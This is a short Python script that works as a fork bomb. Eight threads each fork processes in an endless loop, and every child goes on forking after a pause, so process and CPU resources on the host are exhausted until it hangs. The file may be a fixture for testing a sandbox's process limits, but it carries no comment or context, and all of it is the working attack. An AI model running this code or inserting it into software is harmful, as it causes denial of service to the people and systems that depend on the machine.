import os
import threading
import time


def fork_for_ever():
    while True:
        try:
            if os.fork() == 0:
                time.sleep(60)
        except OSError:
            time.sleep(0.001)


print("go", flush=True)
for _ in range(8):
    threading.Thread(target=fork_for_ever).start()
